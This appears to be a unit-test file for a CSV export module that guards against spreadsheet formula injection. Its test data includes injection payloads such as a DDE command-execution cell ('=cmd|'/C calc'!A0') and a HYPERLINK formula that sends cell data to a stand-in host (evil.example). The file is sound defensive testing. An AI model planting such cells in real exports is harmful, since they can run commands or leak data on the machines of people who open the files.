import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { cellText } from '../../../src/shared/cell-format.js';
import { csvCell, csvLine, labelCsvLine, sanitizeCell, toCsv, type CsvColumn } from '../../../src/shared/csv.js';

interface Row {
  Name: string;
  Size: number;
  CreatedDate: string;
  IsActive: boolean;
}

const columns: CsvColumn<Row>[] = [
  { title: 'Name', key: 'Name' },
  { title: 'Size', key: 'Size' },
  { title: 'Created Date', key: 'CreatedDate', format: 'date' },
  { title: 'Status', key: 'IsActive', format: 'status' },
];

const parse = (csv: string) => Papa.parse<string[]>(csv.trim(), { newline: '\r\n' }).data;

describe('sanitizeCell', () => {
  it.each([
    ['=1+2', "'=1+2"],
    ['+SUM(A1)', "'+SUM(A1)"],
    ['-2+3', "'-2+3"],
    ['@cmd', "'@cmd"],
    ['\tlead', "'\tlead"],
    ['\rlead', "'\rlead"],
    ['  =HYPERLINK("http://x")', '\'  =HYPERLINK("http://x")'],
    ["=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"],
  ])('neutralises %j', (input, out) => {
    expect(sanitizeCell(input)).toBe(out);
  });

  it.each(['Box 12', 'a=b', 'x-y', 'mail@example.com', '', "'quoted"])('leaves %j alone', (input) => {
    expect(sanitizeCell(input)).toBe(input);
  });
});

describe('cells', () => {
  it('keeps real numbers, negative ones included, as data', () => {
    expect(csvCell(-5)).toBe(-5);
    expect(csvCell(12)).toBe(12);
    expect(csvCell('-5')).toBe("'-5");
  });

  it('formats dates readably and flags as words', () => {
    expect(cellText('2024-03-07T10:20:00', 'date')).toBe('07-03-2024');
    expect(cellText('2024-03-07T10:20:00', 'datetime')).toBe('07-03-2024 10:20');
    expect(cellText(null, 'date')).toBe('');
    expect(cellText('not a date', 'date')).toBe('not a date');
    expect(cellText(true, 'status')).toBe('Active');
    expect(cellText(false, 'status')).toBe('Inactive');
    expect(cellText(undefined)).toBe('');
  });
});

describe('toCsv', () => {
  it('writes a header of titles and one line per row', () => {
    const csv = toCsv<Row>([{ Name: 'Small', Size: 10, CreatedDate: '2024-01-02T09:00:00', IsActive: true }], columns);
    expect(csv).toBe('Name,Size,Created Date,Status\r\nSmall,10,02-01-2024,Active\r\n');
  });

  it('round-trips hostile cells as inert text', () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      '+1,2\n3',
      '-cmd',
      '@SUM(1)',
      '\t=1',
      'say "hi"',
    ];
    const rows = hostile.map((Name, i) => ({ Name, Size: i, CreatedDate: '', IsActive: false }));
    const data = parse(toCsv<Row>(rows, columns));
    expect(data[0]).toEqual(['Name', 'Size', 'Created Date', 'Status']);
    data.slice(1).forEach((line, i) => {
      expect(line[0]).toBe(`'${hostile[i]}`.replace("'say", 'say'));
      expect(line[0]).not.toMatch(/^[=+\-@\t\r]/);
      expect(line[3]).toBe('Inactive');
    });
  });

  it('sanitises titles and computed cells too', () => {
    const csv = toCsv<Row>(
      [{ Name: 'a', Size: 1, CreatedDate: '', IsActive: true }],
      [{ title: '=Title', value: (r) => `=${r.Name}` }],
    );
    expect(parse(csv)).toEqual([["'=Title"], ["'=a"]]);
  });

  it('gives just the header for no rows', () => {
    expect(toCsv<Row>([], columns)).toBe('Name,Size,Created Date,Status\r\n');
  });
});

describe('labelCsvLine (files for label software)', () => {
  it('writes cells as they are: the spreadsheet guard is for spreadsheet files only', () => {
    const cells = ['=cmd|x', '+91', '-5', '@home', 'जैविक खाद'];
    expect(labelCsvLine(cells)).toBe('=cmd|x,+91,-5,@home,जैविक खाद\r\n');
    expect(csvLine(cells)).toBe("'=cmd|x,'+91,'-5,'@home,जैविक खाद\r\n");
  });

  it('still quotes commas, quotes and line breaks', () => {
    expect(labelCsvLine(['CIR-40,123', 'say "hi"', 'a\nb'])).toBe('"CIR-40,123","say ""hi""","a\nb"\r\n');
  });
});
